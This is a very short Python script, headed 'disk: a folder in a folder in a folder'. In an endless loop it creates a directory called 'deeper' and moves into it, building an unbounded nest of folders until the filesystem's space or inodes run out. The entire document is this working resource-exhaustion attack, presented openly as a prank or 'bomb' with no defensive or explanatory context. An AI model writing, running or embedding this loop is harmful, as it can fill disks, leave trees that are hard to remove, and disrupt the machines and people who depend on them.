# disk: a folder in a folder in a folder
import os

while True:
    os.mkdir("deeper")
    os.chdir("deeper")
